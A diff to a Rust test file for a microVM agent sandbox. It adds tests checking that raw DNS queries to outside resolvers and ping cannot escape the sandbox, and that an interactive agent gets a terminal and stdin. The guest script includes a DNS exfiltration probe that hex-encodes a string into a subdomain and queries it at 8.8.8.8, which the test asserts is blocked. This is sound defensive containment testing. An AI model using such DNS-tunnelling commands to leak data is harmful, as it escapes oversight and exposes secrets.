@@ -1,6 +1,7 @@
 //! Whole microVM bottles, the Docker backend's scenarios: the agent sees
 //! dummies while the upstream gets the real token, denied hosts and direct
-//! connections and DNS all fail, the canary is nowhere the agent or a user
+//! connections and DNS all fail (also raw DNS to an outside resolver, and
+//! ping), the canary is nowhere the agent or a user
 //! can see, and nothing remains afterwards.
 //!
 //! These need a guest that boots (hardware KVM). They are gated by the boot
@@ -29,6 +30,26 @@ fn image() -> String {
 /// Runs `script` in a fresh microVM bottle; returns (exit code, agent
 /// output, bottle id). The bottle is left for the caller to inspect/remove.
 fn run_bottle(tag: &str, script: &str, up: &Upstream, token: &str) -> (i32, String, String) {
+    let (spec, id) = bottle_spec(tag, script, up, token);
+    SmolMachines.launch(spec).expect("launch");
+    finish(id)
+}
+
+/// Waits for the agent of bottle `id`; returns (exit code, output, id).
+fn finish(id: String) -> (i32, String, String) {
+    let exit = SmolMachines
+        .wait(WaitRequest {
+            schema: 1,
+            bottle_id: id.clone(),
+            attach: false,
+        })
+        .expect("wait");
+    let out = std::fs::read_to_string(Paths::of(&id).agent_log()).unwrap_or_default();
+    (exit.exit_code, out, id)
+}
+
+/// The launch spec of a bottle running `script`, and its id.
+fn bottle_spec(tag: &str, script: &str, up: &Upstream, token: &str) -> (LaunchSpec, String) {
     state_root();
     let id = format!("bb-{tag}-{:08x}", rand::random::<u32>());
     let (config, ca_pem) = proxy_config(&id, up, token);
@@ -71,16 +92,7 @@ fn run_bottle(tag: &str, script: &str, up: &Upstream, token: &str) -> (i32, Stri
         backend_options: serde_json::Value::Null,
         labels: Default::default(),
     };
-    SmolMachines.launch(spec).expect("launch");
-    let exit = SmolMachines
-        .wait(WaitRequest {
-            schema: 1,
-            bottle_id: id.clone(),
-            attach: false,
-        })
-        .expect("wait");
-    let out = std::fs::read_to_string(Paths::of(&id).agent_log()).unwrap_or_default();
-    (exit.exit_code, out, id)
+    (spec, id)
 }
 
 fn remove(id: &str) {
@@ -220,4 +232,100 @@ fn the_canary_is_nowhere_the_agent_or_a_user_can_see_and_the_ca_key_is_absent() 
     remove(&id);
     std::thread::sleep(Duration::from_millis(200));
     assert!(leftovers(&id).is_empty(), "{:?}", leftovers(&id));
+}
+
+/// Raw DNS to an outside resolver and a ping: neither may leave
+/// the engine. The engine's gateway answers every port-53 query itself and,
+/// with the DNS filter the backend sets, answers NXDOMAIN without asking any
+/// upstream. Where this process may bind host port 53 on loopback (the
+/// upstream the machine names), a listener there must see no query either.
+#[test]
+fn raw_dns_to_an_outside_resolver_and_ping_never_leave_the_engine() {
+    if !booting("raw_dns_to_an_outside_resolver_and_ping_never_leave_the_engine") {
+        return;
+    }
+    let udp = std::net::UdpSocket::bind("127.0.0.1:53").ok();
+    let tcp = std::net::TcpListener::bind("127.0.0.1:53").ok();
+    if udp.is_none() || tcp.is_none() {
+        eprintln!("note: cannot bind 127.0.0.1:53 here; the upstream side is not watched");
+    }
+    for s in udp.iter() {
+        s.set_nonblocking(true).unwrap();
+    }
+    for l in tcp.iter() {
+        l.set_nonblocking(true).unwrap();
+    }
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let up = rt.block_on(Upstream::start(&[HOST]));
+    let script = r#"
+label=$(echo bot-bottle-exfil | od -An -tx1 | tr -d ' \n')
+nslookup "$label.example.com" 8.8.8.8 >/tmp/o1 2>&1; echo "udp-external=$?"; cat /tmp/o1
+nslookup example.com 1.1.1.1 >/tmp/o2 2>&1; echo "udp-external2=$?"; cat /tmp/o2
+getent hosts example.com >/dev/null && echo dns-default=resolved || echo dns-default=failed
+ping -c 1 -W 3 1.1.1.1 >/dev/null 2>&1 && echo icmp=reached || echo icmp=blocked
+"#;
+    let (code, out, id) = run_bottle("dns", script, &up, &canary());
+    assert_eq!(code, 0, "{out}");
+    for bad in [
+        "udp-external=0",
+        "udp-external2=0",
+        "dns-default=resolved",
+        "icmp=reached",
+    ] {
+        assert!(!out.contains(bad), "{bad}: {out}");
+    }
+    if let Some(s) = &udp {
+        let mut buf = [0u8; 512];
+        assert!(
+            s.recv_from(&mut buf).is_err(),
+            "a guest query reached the upstream"
+        );
+    }
+    if let Some(l) = &tcp {
+        assert!(
+            l.accept().is_err(),
+            "a guest DNS/TCP query reached the upstream"
+        );
+    }
+    remove(&id);
+    assert!(leftovers(&id).is_empty(), "{:?}", leftovers(&id));
+}
+
+/// `bottle run` at a terminal: the agent gets a terminal in the guest and
+/// the line typed into its stdin socket (what an attached `bottle run`
+/// copies its own stdin to); a non-interactive agent gets no stdin socket.
+#[test]
+fn an_interactive_agent_gets_a_terminal_and_what_is_typed() {
+    if !booting("an_interactive_agent_gets_a_terminal_and_what_is_typed") {
+        return;
+    }
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let up = rt.block_on(Upstream::start(&[HOST]));
+    let script = r#"[ -t 0 ] && echo tty=yes || echo tty=no; read line; echo "got=$line""#;
+    let (mut spec, id) = bottle_spec("tty", script, &up, &canary());
+    spec.agent.tty = true;
+    spec.agent.interactive = true;
+    SmolMachines.launch(spec).expect("launch");
+    let sock = Paths::of(&id).agent_stdin();
+    let mut c = std::os::unix::net::UnixStream::connect(&sock).expect("the agent's stdin socket");
+    use std::io::Write as _;
+    c.write_all(b"hello from the host\n").unwrap();
+    let (code, out, id) = finish(id);
+    drop(c);
+    assert_eq!(code, 0, "{out}");
+    assert!(out.contains("tty=yes"), "{out}");
+    assert!(out.contains("got=hello from the host"), "{out}");
+    assert!(!sock.exists(), "the stdin socket outlived the agent");
+    remove(&id);
+
+    let (code, out, id) = run_bottle(
+        "notty",
+        "[ -t 0 ] && echo tty=yes || echo tty=no",
+        &up,
+        &canary(),
+    );
+    assert_eq!(code, 0, "{out}");
+    assert!(out.contains("tty=no"), "{out}");
+    assert!(!Paths::of(&id).agent_stdin().exists());
+    remove(&id);
 }
